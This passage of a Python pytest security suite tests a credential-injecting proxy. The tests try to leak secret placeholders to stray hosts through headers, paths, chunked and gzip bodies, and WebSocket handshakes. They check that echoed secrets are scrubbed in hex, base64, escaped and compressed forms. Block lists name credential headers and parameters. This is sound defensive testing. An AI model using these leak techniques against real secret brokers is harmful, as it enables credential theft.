"""Attacks on secrets: a desk tries to read those it may only use, or to use them where it may not."""

from __future__ import annotations

import base64
import gzip
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import time
import zlib
from collections.abc import Callable
from contextlib import closing, suppress
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import anyio
import brotli  # type: ignore[import-untyped]
import pytest
import zstandard

from hotdesk.brief import scope_json
from hotdesk.desk.owner.runtime import KeeperRuntime
from hotdesk.desk.seam import Spec
from hotdesk.errors import BriefError
from hotdesk.linux import uids
from hotdesk.vault import Token, compute_totp_code
from tests.leftovers import parent, pids
from tests.security.conftest import Attack, Command, Visit
from tests.security.guards import CANARIES_IGNORED, Removal, falls_without, no_guard
from tests.security.secret_room import (
    CLIENT,
    FREE,
    HOSTILE,
    PASSWORD,
    REFUSED,
    SECRETS,
    SEED,
    Answer,
    Case,
    Room,
    part,
    placeholders,
    text,
)

pytestmark = pytest.mark.container
A = SECRETS["token-a"]
MARK = b"hotdesk-secret-"
FORM = ("Content-Type", "application/x-www-form-urlencoded")
JSON = ("Content-Type", "application/json")
REMOVED = b"hotdesk-removed"


# -- placeholders stay inside ------------------------------------------------------------------------------------------

STRAY: dict[str, Callable[[str], dict[str, Any]]] = {
    "a header": lambda it: {"headers": [["X-Note", it]]},
    "a header's name": lambda it: {"headers": [[it, "1"]]},
    "amid a header": lambda it: {"headers": [["User-Agent", f"me/{it};1"]]},
    "the path": lambda it: {"path": f"/data/{it}"},
    "the path, escaped": lambda it: {"path": f"/data/{quote(it).replace('h', '%68')}"},
    "a parameter": lambda it: {"path": f"/data?q={it}"},
    "a parameter, escaped": lambda it: {"path": f"/data?q={it.replace('-', '%2d')}"},
    "a parameter's name": lambda it: {"path": f"/data?{it}=1"},
    "a cookie": lambda it: {"headers": [["Cookie", f"sid={it}"]]},
    "basic, as user": lambda it: {"headers": [["X-Auth", basic(it, "x")]]},
    "basic, as password": lambda it: {"headers": [["X-Auth", basic("x", it)]]},
    "a body": lambda it: {"method": "POST", "body": text(b"note=" + it.encode())},
    "a body of JSON": lambda it: {"method": "POST", "headers": [JSON], "body": text(json.dumps({"n": it}).encode())},
    "a body in chunks": lambda it: {"method": "POST", "chunks": [text(b"n=" + it.encode())]},
    "a body split over chunks": lambda it: {
        "method": "POST",
        "chunks": [text(b"x" * 70_000 + it[:20].encode()), text(it[20:40].encode()), text(it[40:].encode() + b"!")],
        "pause": 1.0,
    },
    "a body byte by byte": lambda it: {"method": "POST", "chunks": [text(c.encode()) for c in it], "pause": 0.03},
    "a body in gzip": lambda it: {
        "method": "POST",
        "headers": [["Content-Encoding", "gzip"]],
        "body": text(gzip.compress(b"n=" + it.encode())),
    },
    "a body in gzip, in chunks": lambda it: {
        "method": "POST",
        "headers": [["Content-Encoding", "gzip"]],
        "chunks": [text(each) for each in pieces(gzip.compress(b"any words " * 99 + it.encode()), 32)],
        "pause": 0.01,
    },
    "a handshake": lambda it: {
        "headers": [["Connection", "Upgrade"], ["Upgrade", "websocket"], ["Sec-WebSocket-Protocol", it]]
    },
}


def basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


def pieces(data: bytes, size: int) -> list[bytes]:
    return [data[at : at + size] for at in range(0, len(data), size)]


STRAY_HOSTS = ("a.test", "b.test", FREE)


WHOLE_BODIES = ("a body", "a body of JSON", "a body in chunks")
SPLIT_BODIES = ("a body split over chunks", "a body byte by byte")
PACKED_BODIES = ("a body in gzip", "a body in gzip, in chunks")


def at_every_host(*where: str) -> list[str]:
    return [f"{one}-{host}" for one in where for host in STRAY_HOSTS]


FOREIGN_CREDENTIALS_PASS = Removal(
    "secrets/inject.py",
    "screen_credentials(sent, uses, returned, issued, allowed) if allowed is not None else frozenset()",
    "frozenset()",
)
UPGRADES_PASS = Removal(
    "door/exchange.py",
    "if self.granted or self.body.allowed is not None:\n            raise ExchangeError(403, inject.NO_UPGRADE)",
    "if False:\n            pass",
)


@falls_without(
    "no placeholder in a head but at its place",
    Removal(
        "secrets/inject.py",
        "if marked and (refusal := refuse_stray(out, sent, uses, returned)):",
        "if marked and (refusal := None):",
    ),
    FOREIGN_CREDENTIALS_PASS,
    UPGRADES_PASS,
    cases=at_every_host(
        "a header",
        "a header's name",
        "amid a header",
        "the path",
        "the path, escaped",
        "a parameter",
        "a parameter, escaped",
        "a parameter's name",
        "a cookie",
        "basic, as user",
        "basic, as password",
        "a handshake",
    ),
)
@falls_without(
    "no placeholder in a body that streams",
    Removal("secrets/upload_watch.py", "if PREFIX in data and (m :=", "if False and (m :="),
    cases=at_every_host(*WHOLE_BODIES, *SPLIT_BODIES, *PACKED_BODIES),
)
@falls_without(
    "a placeholder cut by a piece's end is held back",
    Removal("secrets/upload_watch.py", "cut = find_cut(data)", "cut = len(data)"),
    cases=at_every_host(*SPLIT_BODIES),
)
@falls_without(
    "packed bodies are unpacked alongside",
    Removal(
        "secrets/upload_watch.py",
        "self.inside = UploadWatcher(fields=fields) if reader else None",
        "self.inside = None",
    ),
    cases=at_every_host(*PACKED_BODIES),
)
@pytest.mark.parametrize("host", STRAY_HOSTS)
@pytest.mark.parametrize("where", STRAY)
async def test_a_placeholder_reaches_no_host(cases: dict[str, Case], where: str, host: str) -> None:
    case = cases[f"{where} to {host}"]
    assert case.answer.status in REFUSED
    assert MARK not in case.arrived


@no_guard("the door writes the end of every body itself, and has nowhere to put what else was said")
async def test_a_placeholder_in_a_trailer_is_removed(room: Room, visit: Visit) -> None:
    trailer = f"X-Note: {room.held['R']}\r\n"
    await visit(room.desk, {"host": HOSTILE, "method": "POST", "chunks": [text(b"x")], "trailer": trailer})
    assert room.raw.got
    assert not any(MARK in seen for seen in room.raw.got)


@falls_without("no placeholder in a head but at its place")
async def test_a_placeholder_over_plain_http_is_refused(room: Room, visit: Visit) -> None:
    held = {"headers": [["Authorization", f"Bearer {room.held['A']}"]]}
    (answer,) = await visit(room.desk, {"host": "a.test", "scheme": "http", **held})
    assert answer.status == 403
    assert b"only in https requests" in answer.body
    assert b"real-value" not in answer.told


@falls_without("alarms over placeholders", Removal("door/egress.py", "for sign in refusal.signs:", "for sign in ():"))
async def test_every_misused_placeholder_raises_an_alarm(room: Room, visit: Visit) -> None:
    async with room.host.open_desk(scope=room.scope("token-b@b.test header=X-Api-Key swap env=B")) as desk:
        note = ["X-Note", (await placeholders(desk))["B"]]
        await visit(desk, *[{"host": FREE, "headers": [note]}] * 3)
        with anyio.fail_after(10):
            while room.alarms("placeholder", desk) < 3:  # the answer does not wait for the journal
                await anyio.sleep(0.02)
    assert room.alarms("placeholder", desk) == 3


MUST_WORK = "it must pass: that what is granted works"


@no_guard(MUST_WORK)
async def test_a_secret_put_in_the_vault_later_works_at_once(room: Room, visit: Visit) -> None:
    room.vault.put("late", Token(), b"late-real-value-0123456789abcdef")
    scope = room.scope("late@late.test", rules=["read late.test"])
    async with room.host.open_desk(scope=scope) as desk:
        (answer,) = await visit(desk, {"host": "late.test"})
    assert answer.status == 200
    assert room.up.seen[-1].header("authorization") == "Bearer late-real-value-0123456789abcdef"


@no_guard("there is no value that could be given")
async def test_a_missing_secret_gives_no_access(room: Room) -> None:
    with pytest.raises(BriefError, match="never-put"):
        await room.host.open(scope=room.scope("never-put@a.test"))


# -- whose, where, how long --------------------------------------------------------------------------------------------


@falls_without("no placeholder in a head but at its place")
async def test_a_placeholder_of_one_host_is_worthless_at_another(room: Room, visit: Visit) -> None:
    for name in ("A", "R", "I"):
        (answer,) = await visit(room.desk, {"host": "b.test", "headers": [["X-Api-Key", room.held[name]]]})
        assert answer.status == 403


@falls_without("no placeholder in a head but at its place")
async def test_a_placeholder_is_worthless_in_another_desk(room: Room, visit: Visit) -> None:
    assert room.strange["B"] != room.held["B"]
    (own, strange) = await visit(
        room.neighbour,
        {"host": "b.test", "headers": [["X-Api-Key", room.strange["B"]]]},
        {"host": "b.test", "headers": [["X-Api-Key", room.held["B"]]]},
    )
    assert (own.status, strange.status) == (200, 403)


@falls_without(
    "grants of another step are not held",
    Removal("door/egress.py", ' if live.live_grant.grant.step in ("", self.step)]', "]"),
)
async def test_a_placeholder_is_worthless_after_its_step(room: Room, visit: Visit) -> None:
    scope = room.scope("token-b@b.test header=X-Api-Key swap env=B step=one", rules=["read b.test", "read a.test"])
    assert room.host.doors is not None
    async with room.host.open_desk(scope=scope) as desk:
        sent = {"host": "b.test", "headers": [["X-Api-Key", (await placeholders(desk))["B"]]]}
        got = []
        for step in ("one", "two"):
            await room.host.doors.enter_step(desk.id, step)
            got += [answer.status for answer in await visit(desk, sent)]
    assert got == [200, 403]


@falls_without(
    "revoked grants are not held",
    Removal(
        "door/egress.py",
        'self.live = {id: one for id, one in self.live.items() if gone not in ("", one.live_grant.grant.secret)}',
        "pass",
    ),
)
async def test_a_placeholder_is_worthless_once_revoked(room: Room, visit: Visit) -> None:
    scope = room.scope("token-b@b.test header=X-Api-Key swap env=B", rules=["read b.test"])
    assert room.host.doors is not None
    async with room.host.open_desk(scope=scope) as desk:
        sent = {"host": "b.test", "headers": [["X-Api-Key", (await placeholders(desk))["B"]]]}
        (before,) = await visit(desk, sent)
        await room.host.doors.revoke(desk.id, "token-b")
        (after,) = await visit(desk, sent)
    assert (before.status, after.status) == (200, 403)


@falls_without(
    "grants end",
    Removal("door/egress.py", "return self.until is not None and time.time() >= self.until", "return False"),
)
async def test_a_placeholder_is_worthless_when_its_time_is_up(room: Room, visit: Visit) -> None:
    scope = room.scope("token-b@b.test header=X-Api-Key swap env=B seconds=10", rules=["read b.test"])
    async with room.host.open_desk(scope=scope) as desk:
        end = time.monotonic() + 10
        sent = {"host": "b.test", "headers": [["X-Api-Key", (await placeholders(desk))["B"]]]}
        (before,) = await visit(desk, sent)
        await anyio.sleep(max(0.0, end - time.monotonic()))
        (after,) = await visit(desk, sent)
        assert (before.status, after.status) == (200, 403)
        with anyio.fail_after(30):  # the door's report is written soon after
            while not any(row.name == "Revoked" for row in room.rows(desk)):
                await anyio.sleep(0.02)


# -- swaps -------------------------------------------------------------------------------------------------------------

P = SECRETS["token-p"].decode()
RIGHT: dict[str, tuple[Callable[[dict[str, str]], dict[str, Any]], str]] = {
    "header": (lambda h: {"host": "b.test", "headers": [["X-Api-Key", h["B"]]]}, SECRETS["token-b"].decode()),
    "query": (lambda h: {"host": "pin.test", "path": f"/pinned?key={h['P']}"}, f"/pinned?key={P}"),
    "form": (
        lambda h: post("/login", FORM, f"user=x&password={h['P']}"),
        f"user=x&password={P}",
    ),
    "json": (lambda h: post("/json", JSON, json.dumps({"auth": {"password": h["P"]}})), f'"password": "{P}"'),
    "basic": (
        lambda h: {"host": "basic.test", "headers": [["Authorization", basic("clerk", h["C"])]]},
        "clerk:charlie",
    ),
}


def post(path: str, kind: tuple[str, str], body: str, **more: Any) -> dict[str, Any]:
    return {"host": "pin.test", "method": "POST", "path": path, "headers": [kind], "body": text(body.encode())} | more


@no_guard(MUST_WORK)
@pytest.mark.parametrize("where", RIGHT)
async def test_a_secret_is_inserted_where_its_grant_says(cases: dict[str, Case], where: str) -> None:
    case = cases[where]
    assert case.answer.status == 200
    assert RIGHT[where][1].encode() in case.arrived
    assert b"real-" not in case.answer.told


WRONG: dict[str, Callable[[str], dict[str, Any]]] = {
    "form, another path": lambda it: post("/comments", FORM, f"password={it}"),
    "form, another method": lambda it: post("/login", FORM, f"password={it}", method="PUT"),
    "form, another field": lambda it: post("/login", FORM, f"user={it}"),
    "form, another type": lambda it: post("/login", ("Content-Type", "text/plain"), f"password={it}"),
    "form, amid a field": lambda it: post("/login", FORM, f"password=x{it}"),
    "form, twice": lambda it: post("/login", FORM, f"password={it}&password={it}"),
    "form, a second field": lambda it: post("/login", FORM, f"password={it}&comment={it}"),
    "form, escaped": lambda it: post("/login", FORM, f"comment={it.replace('-', '%2D')}"),
    "json, another path": lambda it: post("/other", JSON, json.dumps({"auth": {"password": it}})),
    "json, another field": lambda it: post("/json", JSON, json.dumps({"comment": it})),
    "json, as a key": lambda it: post("/json", JSON, json.dumps({it: 1})),
    "json, twice": lambda it: post("/json", JSON, f'{{"auth": {{"password": "{it}", "password": "{it}"}}}}'),
    "json, a second field": lambda it: post("/json", JSON, json.dumps({"auth": {"password": it}, "c": it})),
    "json, as text": lambda it: post("/json", ("Content-Type", "text/plain"), json.dumps({"auth": {"password": it}})),
    "query, another path": lambda it: {"host": "pin.test", "path": f"/public?key={it}"},
    "query, another method": lambda it: {"host": "pin.test", "method": "POST", "path": f"/pinned?key={it}"},
    "query, another parameter": lambda it: {"host": "pin.test", "path": f"/pinned?note={it}"},
    "query, twice": lambda it: {"host": "pin.test", "path": f"/pinned?key={it}&key={it}"},
    "a header it has no place in": lambda it: {"host": "pin.test", "headers": [["Authorization", f"Bearer {it}"]]},
    "a body in gzip": lambda it: post("/login", FORM, "") | {
        "body": text(gzip.compress(f"password={it}".encode())),
        "headers": [FORM, ["Content-Encoding", "gzip"]],
    },
}  # fmt: skip


ANY_FIELD = Removal(
    "secrets/bodies.py",
    "if use is None or body.count(text) != 1:",
    "if use is None:\n            continue\n        if False:",
)


@falls_without(
    "no placeholder in a head but at its place",
    cases="""
    query, another path | query, another method | query, another parameter | query, twice |
    a header it has no place in
    """,
)
@falls_without(
    "places are for one method and path",
    Removal(
        "secrets/outgoing.py", 'return place.method in ("", out.method) and place.path in ("", out.path)', "return True"
    ),
    cases="form, another path | form, another method | json, another path",
)
@falls_without(
    "places are for one field",
    ANY_FIELD,
    cases="""
    form, another field | form, amid a field | form, a second field | form, escaped | json, another field |
    json, as a key | json, a second field
    """,
)
@falls_without(
    "a field is there once",
    ANY_FIELD,
    Removal("secrets/bodies.py", "if PREFIX in value and times[name] > 1:", "if False:"),
    Removal("secrets/bodies.py", "parse_json(body, overflow=True)", "parse_json(body, duplicates=True, overflow=True)"),
    cases="form, twice | json, twice",
)
@falls_without(
    "places are for one type of body",
    Removal("secrets/bodies.py", 'len(types) == 1 and pattern.fullmatch(types[0].strip(b" \\t")):', "types:"),
    cases="form, another type | json, as text",
)
@falls_without(
    "no secret is put into a packed body",
    Removal(
        "secrets/inject.py",
        'if plan.whole and any(fold(n) == b"content-encoding"',
        'if False and any(fold(n) == b""',
    ),
    cases="a body in gzip",
)
@pytest.mark.parametrize("where", WRONG)
async def test_a_secret_is_inserted_nowhere_else(cases: dict[str, Case], where: str) -> None:
    case = cases[where]
    assert case.answer.status in REFUSED
    assert P.encode() not in case.arrived
    assert MARK not in case.arrived


@falls_without(
    "bodies that are held have a bound", Removal("door/request_body.py", "if len(body) > BODY_LIMIT:", "if False:")
)
async def test_a_body_too_large_to_search_is_refused_with_a_reason(room: Room, visit: Visit) -> None:
    since = len(room.up.seen)
    told = await room.desk.run(["python3", "-c", BIG, room.held["P"]], timeout=30)
    assert told.text.startswith("413 ")
    assert "1 MiB" in told.text
    assert len(room.up.seen) == since


BIG = """
import http.client, ssl, sys
line = http.client.HTTPSConnection("127.0.0.1", 3128, timeout=20)
line.set_tunnel("pin.test", 443)
body = b"password=" + sys.argv[1].encode() + b"&x=" + b"y" * (1 << 20)
try:
    line.request("POST", "/login", body, {"Content-Type": "application/x-www-form-urlencoded"})
except OSError:
    pass
answer = line.getresponse()
print(answer.status, answer.read().decode())
"""


# -- what comes back ---------------------------------------------------------------------------------------------------


def middle(before: int, encode: Callable[[bytes], bytes]) -> bytes:
    return encode(b"x" * before + A + b"tail")


SPELT: dict[str, bytes] = {
    "as it is": A,
    "reversed": A[::-1],
    "hex": A.hex().encode(),
    "hex in capitals": A.hex().upper().encode(),
    "base64": middle(0, base64.b64encode),
    "base64 after one byte": middle(1, base64.b64encode),
    "base64 after two bytes": middle(2, base64.b64encode),
    "base64 for addresses": middle(1, base64.urlsafe_b64encode),
    "percent": "".join(f"%{byte:02x}" for byte in A).encode(),
    "percent, some": A.replace(b"a", b"%61").replace(b"-", b"%2D"),
    "JSON escapes": "".join(f"\\u{byte:04x}" for byte in A).encode(),
    "JSON escapes, some": A.replace(b"l", b"\\u006c"),
    "x escapes": A.replace(b"l", b"\\x6c"),
    "entities": "".join(f"&#{byte};" for byte in A).encode(),
    "entities in hex": "".join(f"&#x{byte:x};" for byte in A).encode(),
}
Reflection = tuple[int, dict[str, str], bytes]
PLAIN = {"Content-Type": "text/plain"}
REFLECTED: dict[str, Reflection] = {
    **{f"a body, {how}": (200, PLAIN, b"before " + spelt + b" after") for how, spelt in SPELT.items()},
    **{f"a header, {how}": (200, {"X-Echo": spelt.decode()}, b"") for how, spelt in SPELT.items()},
    "a header's name": (200, {f"X-{A.decode()}": "1"}, b"removed"),
    "a redirect": (302, {"Location": f"https://a.test/?t={A.decode()}"}, b""),
    "a redirect, reversed": (302, {"Location": f"https://a.test/?t={A[::-1].decode()}"}, b""),
    "a cookie": (200, {"Set-Cookie": f"echo={A.decode()}; Path=/"}, b""),
    "a cookie no script reads": (200, {"Set-Cookie": f"echo={A.decode()}; HttpOnly"}, b""),
    "an error page": (500, {"Content-Type": "text/html"}, b"<pre>Authorization: Bearer " + A + b"</pre>"),
    "a refusal": (401, {"WWW-Authenticate": f'Bearer error="{A.decode()}"'}, b"no"),
    "gzip": (200, {"Content-Encoding": "gzip"}, gzip.compress(b"x" + A)),
    "deflate": (200, {"Content-Encoding": "deflate"}, zlib.compress(b"x" + A)),
    "brotli": (200, {"Content-Encoding": "br"}, brotli.compress(b"x" + A)),
    "zstd": (200, {"Content-Encoding": "zstd"}, zstandard.compress(b"x" + A)),
    "gzip twice": (200, {"Content-Encoding": "gzip, gzip"}, gzip.compress(gzip.compress(b"x" + A))),
}
UNREADABLE: dict[str, Reflection] = {
    "an unknown packing": (200, {"Content-Encoding": "compress"}, A),
    "a packing that is none": (200, {"Content-Encoding": "gzip"}, b"x" + A),
    "three packings": (200, {"Content-Encoding": "gzip, gzip, gzip"}, gzip.compress(A)),
}


def shown(answer: Answer) -> bytes:
    unpack: dict[str, Callable[[bytes], bytes]] = {
        "gzip": gzip.decompress,
        "deflate": zlib.decompress,
        "br": brotli.decompress,
        "zstd": zstandard.decompress,
        "gzip, gzip": lambda data: gzip.decompress(gzip.decompress(data)),
    }
    return answer.told + unpack.get(answer.header("content-encoding"), bytes)(answer.body)


@falls_without(
    "answers are looked through",
    Removal("secrets/response.py", "self.active = granted or bool(scrubber.spelt)", "self.active = False"),
    CANARIES_IGNORED,
    cases="""
    a body, as it is | a header, as it is | a header's name | a redirect | a cookie | a cookie no script reads |
    an error page | a refusal
    """,
)
@falls_without(
    "secrets reversed are seen",
    Removal("secrets/scrub.py", "found = {value, value[::-1], ", "found = {value, "),
    cases="a body, reversed | a header, reversed | a redirect, reversed",
)
@falls_without(
    "secrets in hex are seen",
    Removal("secrets/scrub.py", ", value.hex().encode(), value.hex().upper().encode()}", "}"),
    cases="a body, hex | a header, hex | a body, hex in capitals | a header, hex in capitals",
)
@falls_without(
    "secrets in base64 are seen",
    Removal("secrets/scrub.py", "for before in range(3):", "for before in ():"),
    CANARIES_IGNORED,
    cases="""
    a body, base64 | a header, base64 | a body, base64 after one byte | a header, base64 after one byte |
    a body, base64 after two bytes | a header, base64 after two bytes | a body, base64 for addresses |
    a header, base64 for addresses
    """,
)
@falls_without(
    "escapes are undone",
    Removal("secrets/scrub.py", "WAYS = (PERCENT, BACKSLASH, ENTITY)", "WAYS = ()"),
    cases="""
    a body, percent | a header, percent | a body, percent, some | a header, percent, some | a body, JSON escapes |
    a header, JSON escapes | a body, JSON escapes, some | a header, JSON escapes, some | a body, x escapes |
    a header, x escapes | a body, entities | a header, entities | a body, entities in hex |
    a header, entities in hex
    """,
)
@falls_without(
    "answers are unpacked",
    Removal("secrets/response.py", "self.choose_decoder(answer, granted) if self.active else None", "None"),
    cases="gzip | deflate | brotli | zstd | gzip twice",
)
@pytest.mark.parametrize("where", REFLECTED)
async def test_a_secret_does_not_come_back_in_an_answer(cases: dict[str, Case], where: str) -> None:
    case = cases[f"reflected in {where}"]
    assert case.seen
    assert case.seen[0].header("authorization") == f"Bearer {A.decode()}"
    told = shown(case.answer)
    assert case.answer.status == REFLECTED[where][0]
    assert not any(spelt[4:-8].lower() in told.lower() for spelt in SPELT.values())


@falls_without("answers are unpacked")
@pytest.mark.parametrize("where", UNREADABLE)
async def test_an_answer_that_cannot_be_searched_is_withheld(cases: dict[str, Case], where: str) -> None:
    case = cases[f"reflected in {where}"]
    assert case.answer.status in (0, 502) or case.answer.body == b""
    assert A not in case.answer.told


PARTS = (
    "Range", "If-Range", "Request-Range", "Request_Range", "X-Ms-Range", "X-Range", "X-Goog-Range", "X-Amz-Range",
    "Accept-Encoding", "X-Accept-Encoding", "A-IM", "Sec-WebSocket-Extensions",
)  # fmt: skip
PARTED_HOSTS = ("a.test", "open.test")
"""A host where a desk may send only listed headers, and one where it may use its own credentials."""


@falls_without(
    "no parts and no packings are asked for", Removal("secrets/outgoing.py", " if not is_withheld(fold(name))]", "]")
)
@falls_without(
    "parts are asked for under no other name",
    Removal("secrets/outgoing.py", ' or (b"range" in folded and folded not in UPLOADED)', ' or folded == b"range"'),
    cases="open.test",
)
@pytest.mark.parametrize("host", PARTED_HOSTS)
async def test_a_granted_host_gets_no_request_for_ranges_or_compression(cases: dict[str, Case], host: str) -> None:
    (seen,) = cases[f"parts of {host}"].seen
    assert [name for name, value in seen.headers if value == "bytes=0-3"] == []
    assert seen.header("accept-encoding") == "identity"


SAYS = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
R = SECRETS["token-r"]
CHUNK = b"%x\r\n%b\r\n"
BROKEN_UP: dict[str, list[bytes]] = {
    "split over chunks": [SAYS, *(CHUNK % (len(each), each) for each in pieces(R, 5)), b"0\r\n\r\n"],
    "byte by byte": [SAYS, *(CHUNK % (1, bytes([byte])) for byte in R), b"0\r\n\r\n"],
    "a head in pieces": [
        *pieces(b"HTTP/1.1 200 OK\r\nX-Echo: " + R + b"\r\nContent-Length: 2\r\n\r\nok", 9),
    ],
    "the reason": [b"HTTP/1.1 200 " + R + b"\r\nContent-Length: 2\r\n\r\nok"],
    "an interim answer": [
        b"HTTP/1.1 103 Early Hints\r\nLink: " + R + b"\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
    ],
    "a trailer": [SAYS, CHUNK % (2, b"ok"), b"0\r\nX-Echo: " + R + b"\r\n\r\n"],
    "an extension of a chunk": [SAYS, b"2;echo=" + R + b"\r\nok\r\n", b"0\r\n\r\n"],
    "until it hangs up": [b"HTTP/1.1 200 OK\r\n\r\n", *pieces(b"before " + R + b" after", 7)],
    "more than it said": [b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok" + R],
    "a second answer": [b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", b"HTTP/1.1 200 " + R + b"\r\n\r\n"],
}


@falls_without(
    "answers are looked through",
    cases="split over chunks | byte by byte | a head in pieces | the reason | until it hangs up",
)
@no_guard(
    "the door writes the end of every body itself, and has nowhere to put what else was said",
    cases="an interim answer | a trailer | an extension of a chunk | more than it said | a second answer",
)
@pytest.mark.parametrize("where", BROKEN_UP)
async def test_a_secret_does_not_come_back_from_a_hostile_host(room: Room, cases: dict[str, Case], where: str) -> None:
    told = cases[f"hostile {where}"].answer.told
    assert any(b"Bearer " + R in got for got in room.raw.got)
    assert R not in told
    assert R[6:-6] not in told


# -- whose name a desk uses --------------------------------------------------------------------------------------------

MINE = "attackers-own"
FOREIGN_HEADERS = (
    "Authorization", "AUTHORIZATION", "X-Authorization", "Authentication", "X-Auth", "X-Auth-Token", "X-Auth-Key",
    "X-Auth-Email", "X-Access-Token", "X-Api-Key", "x_api_key", "Api-Key", "ApiKey", "X-Token", "Token",
    "X-Session-Token", "PRIVATE-TOKEN", "Job-Token", "Deploy-Token", "X-Amz-Security-Token", "X-Goog-Api-Key",
    "X-Vault-Token", "X-Figma-Token", "DD-API-KEY", "DD-APPLICATION-KEY", "Ocp-Apim-Subscription-Key",
    "X-Functions-Key", "X-Shopify-Access-Token", "X-Client-Secret", "X-Acme-Secret", "X-Hub-Signature",
    "X-Appwrite-JWT",
)  # fmt: skip
"""Headers that are credentials by their names: the request is refused."""
UNLISTED_HEADERS = (
    "X-Acme-Identity", "X-Tenant", "X-Jfrog-Art-Api", "X-Sentry-Auth", "X-Amz-Date", "X-Amz-Content-Sha256",
    "X-Ms-Copy-Source", "X-Goog-User-Project", "OpenAI-Organization", "Stripe-Account", "X-Impersonate-User", "Via2",
    "X-WSSE", "From", "X-Consumer", "Sec-WebSocket-Protocol", "X-Plex-Client", "npm-otp",
)  # fmt: skip
"""Headers that no one listed, some of which are credentials somewhere: they are removed."""
FOREIGN_PARAMETERS = (
    "access_token", "API_KEY", "apikey", "key", "token", "auth", "private_token", "job-token", "oauth_token",
    "client_secret", "refresh_token", "id_token", "password", "passwd", "sig", "X-Amz-Signature", "X-Amz-Credential",
    "X-Goog-Signature", "AWSAccessKeyId", "GoogleAccessId", "subscription-key", "appkey", "jwt", "assertion",
    "user_password", "acme-token", "%61%63cess_token", "session[token]", "hapikey",
)  # fmt: skip
FORGED_FORM = f"user=me&password={MINE}".encode()
FORGED_JSON = json.dumps({"user": "me", "password": MINE}).encode()
PADDING = b"x" * (1 << 20)
MULTIPART = ("Content-Type", "multipart/form-data; boundary=b")


def parted(disposition: str) -> bytes:
    return f"--b\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{MINE}\r\n--b--\r\n".encode()


FOREIGN_BODIES: dict[str, tuple[list[tuple[str, str]], bytes]] = {
    "a form": ([FORM], FORGED_FORM),
    "a form, escaped": ([FORM], FORGED_FORM.replace(b"password", b"pass%77ord")),
    "a form, its first field": ([FORM], f"client_secret={MINE}&grant_type=client_credentials".encode()),
    "a form, far behind": ([FORM], b"note=" + PADDING + b"&token=" + MINE.encode()),
    "a form without a type": ([], FORGED_FORM),
    "a form of another type": ([("Content-Type", "application/x-acme")], FORGED_FORM),
    "JSON": ([JSON], FORGED_JSON),
    "JSON, spaced": ([JSON], FORGED_JSON.replace(b'"password":', b'"password"' + b" " * 3000 + b":\n\t")),
    "JSON, escaped": ([JSON], FORGED_JSON.replace(b"password", b"pass\\u0077ord")),
    "JSON, deep and far": ([JSON], b'{"a":"' + PADDING + b'","b":[{"client_secret":"' + MINE.encode() + b'"}]}'),
    "JSON in UTF-16": ([JSON], FORGED_JSON.decode().encode("utf-16")),
    "JSON as a form": ([FORM], FORGED_JSON),
    "JSON as text": ([("Content-Type", "text/plain")], FORGED_JSON),
    "JSON of a vendor": ([("Content-Type", "application/vnd.acme+json")], FORGED_JSON),
    "JSON in gzip": ([JSON, ("Content-Encoding", "gzip")], gzip.compress(FORGED_JSON)),
    "JSON of two types": ([("Content-Type", "image/png"), JSON], FORGED_JSON),
    "a multipart form": ([MULTIPART], parted('name="api_key"')),
    "a multipart form, bare": ([MULTIPART], parted("name=api_key")),
    "a multipart form, encoded": ([MULTIPART], parted("name*=UTF-8''api%5Fkey")),
    "a form of S3's": ([MULTIPART], parted('name="X-Amz-Signature"')),
    "SOAP": (
        [("Content-Type", "text/xml")],
        f"<Envelope><wsse:UsernameToken><wsse:Password Type='t'>{MINE}</wsse:Password></Envelope>".encode(),
    ),
    "where a secret goes": ([JSON], json.dumps({"auth": {"password": "{P}"}, "token": MINE}).encode()),
    "in a secret's place": ([FORM], FORGED_FORM),
}
FOREIGN: dict[str, dict[str, Any]] = {
    **{f"header {name}": {"headers": [[name, f"{MINE}-{name}"]]} for name in FOREIGN_HEADERS},
    **{f"unlisted {name}": {"headers": [[name, f"{MINE}-{name}"]]} for name in UNLISTED_HEADERS},
    **{f"parameter {name}": {"path": f"/data?page=1&{name}={MINE}"} for name in FOREIGN_PARAMETERS},
    "a basic header": {"headers": [["Authorization", f"Basic {base64.b64encode(f'a:{MINE}'.encode()).decode()}"]]},
    "a cookie": {"headers": [["Cookie", f"session={MINE}"]]},
    "a header of a proxy": {"headers": [["Proxy-Authorization", f"Bearer {MINE}"]]},
    "a user in the address": {"path": f"https://me:{MINE}@a.test/data"},
}
PINNED = {"where a secret goes": "/json", "in a secret's place": "/login"}
ORDINARY = {
    "Accept": "*/*", "Accept-Language": "en", "User-Agent": "curl/8", "Referer": "https://a.test/", "Origin": "https://a.test",
    "X-Requested-With": "XMLHttpRequest", "X-CSRF-Token": "csrf", "Sec-Fetch-Mode": "cors", "Sec-CH-UA": '"x"',
    "X-GitHub-Api-Version": "2022-11-28", "Idempotency-Key": "1", "If-None-Match": '"x"', "Prefer": "return=minimal",
}  # fmt: skip
"""What ordinary clients send and must arrive."""
MINTED: dict[str, tuple[str, str]] = {
    "GitLab": ("POST", "/api/v4/projects/1/access_tokens"),
    "GitLab, escaped": ("POST", "/api/v4/projects/1/%61ccess_tokens"),
    "Kubernetes": ("POST", "/api/v1/namespaces/x/serviceaccounts/y/token"),
    "Vault": ("POST", "/v1/auth/token/create"),
    "Gitea": ("POST", "/api/v1/users/me/tokens"),
    "npm": ("POST", "/-/npm/v1/tokens"),
}
UPGRADES = ("websocket", "h2c", "tls/1.3")


@falls_without(
    "no credentials of the desk's own",
    FOREIGN_CREDENTIALS_PASS,
    cases=(
        *(f"header {name}" for name in FOREIGN_HEADERS),
        *(f"unlisted {name}" for name in UNLISTED_HEADERS),
        *(f"parameter {name}" for name in FOREIGN_PARAMETERS),
        "a basic header",
        "a cookie",
    ),
)
@falls_without(
    "headers nobody listed are left out",
    Removal("secrets/foreign_credentials.py", "            removed.add(name)\n", "            pass\n"),
    cases=[f"unlisted {name}" for name in UNLISTED_HEADERS],
)
@falls_without(
    "credentials are known by how their names end",
